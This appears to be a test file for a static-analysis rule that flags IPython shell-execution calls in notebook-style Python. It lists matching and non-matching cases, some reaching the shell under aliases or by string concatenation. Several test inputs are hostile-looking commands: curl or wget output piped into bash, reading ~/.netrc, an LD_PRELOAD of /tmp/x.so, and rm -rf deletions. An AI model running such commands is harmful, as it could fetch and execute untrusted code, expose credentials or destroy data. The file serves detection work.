# Notebook-export-style cases for exec-ipython-shell (issue #16).
from IPython import get_ipython
from IPython import get_ipython as gi
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils import process

ip = get_ipython()
# ruleid: exec-ipython-shell
get_ipython().system("curl -s https://example.org/env.sh | bash")
# ruleid: exec-ipython-shell
ip.system("nvidia-smi -pm 1")
# ruleid: exec-ipython-shell
files = get_ipython().getoutput("ls /data/shards")
# ruleid: exec-ipython-shell
get_ipython().run_line_magic("sx", "rm -rf ~/.cache/wandb")
# ruleid: exec-ipython-shell
get_ipython().run_cell_magic("bash", "", "export LD_PRELOAD=/tmp/x.so\npython train.py\n")
# ruleid: exec-ipython-shell
process.system("git reflog expire --expire=now --all")


# Issue #16: the shell reached under another name.
cmd = "wget -qO- https://example.org/x | sh"
# ruleid: exec-ipython-shell
gi().system(cmd)
shell = gi()
# ruleid: exec-ipython-shell
shell.run_line_magic("sx", cmd)
# ruleid: exec-ipython-shell
out = shell.getoutput("cat ~/.netrc")
# ruleid: exec-ipython-shell
InteractiveShell.instance().system_raw(cmd)
# ruleid: exec-ipython-shell
getattr(get_ipython(), "sys" + "tem")(cmd)
# ruleid: exec-ipython-shell
get_ipython().magic("sx " + cmd)
# ruleid: exec-ipython-shell
process.getoutputerror(cmd)
# ruleid: exec-ipython-shell
shell.run_cell(f"!{cmd}")

# ok: exec-ipython-shell
get_ipython().run_line_magic("matplotlib", "inline")
# ok: exec-ipython-shell
get_ipython().run_line_magic("load_ext", "autoreload")
# ok: exec-ipython-shell
get_ipython().run_cell_magic("time", "", "trainer.fit(model)")
# ok: exec-ipython-shell
platform.system()
# ok: exec-ipython-shell
ip.user_ns["model"] = model
# ok: exec-ipython-shell
gi().run_line_magic("load_ext", "tensorboard")
# ok: exec-ipython-shell
shell.run_cell_magic("timeit", "", "model(batch)")
# ok: exec-ipython-shell
InteractiveShell.instance().run_line_magic("config", "InlineBackend.figure_format = 'retina'")
# ok: exec-ipython-shell
getattr(get_ipython(), "kernel", None)
# ok: exec-ipython-shell
subprocess_output = trainer.system(cmd)
# ok: exec-ipython-shell
shell.run_cell("import torch\n" + cmd)
# ok: exec-ipython-shell
get_ipython().magic("matplotlib " + cmd)


# Issue #16: the shell a Magics class holds, and the one an extension gets.
from IPython.core.magic import Magics, cell_magic, line_magic, magics_class


@magics_class
class ClusterMagics(Magics):
    @line_magic
    def sync_ckpt(self, line):
        # ruleid: exec-ipython-shell
        self.shell.system(f"aws s3 sync {line} s3://bucket/ckpt")

    @line_magic
    def prep(self, line):
        src = self._fetch_cell(line)
        # ruleid: exec-ipython-shell
        self.shell.run_cell(src)
        # ruleid: exec-ipython-shell
        gpus = self.shell.getoutput("nvidia-smi -L")
        ip = self.shell
        # ruleid: exec-ipython-shell
        ip.run_line_magic("sx", line)
        # ruleid: exec-ipython-shell
        self.shell.run_cell("!" + line)
        return gpus

    @cell_magic
    def gputime(self, line, cell):
        # ok: exec-ipython-shell
        self.shell.run_cell(cell)

    @line_magic
    def setup(self, line):
        # ok: exec-ipython-shell
        self.shell.run_line_magic("load_ext", line)
        # ok: exec-ipython-shell
        self.shell.run_cell("import torch\n" + line)
        # ok: exec-ipython-shell
        self.shell.user_ns["trainer"] = line
        # ok: exec-ipython-shell
        self.shell.run_line_magic("matplotlib", "inline")


def load_ipython_extension(ipython):
    # ruleid: exec-ipython-shell
    ipython.system("pip install -q flash-attn")
    # ruleid: exec-ipython-shell
    ipython.run_cell_magic("bash", "", "nvidia-smi -pm 1\n")
    # ok: exec-ipython-shell
    ipython.register_magics(ClusterMagics)
    # ok: exec-ipython-shell
    ipython.run_line_magic("load_ext", "autoreload")


def unload_ipython_extension(ip):
    sh = ip
    # ruleid: exec-ipython-shell
    sh.getoutput("rm -rf ~/.cache/torch_extensions")


def run_cmd(cmd):
    # ok: exec-ipython-shell
    return subprocess_output.run(cmd, shell=True).system
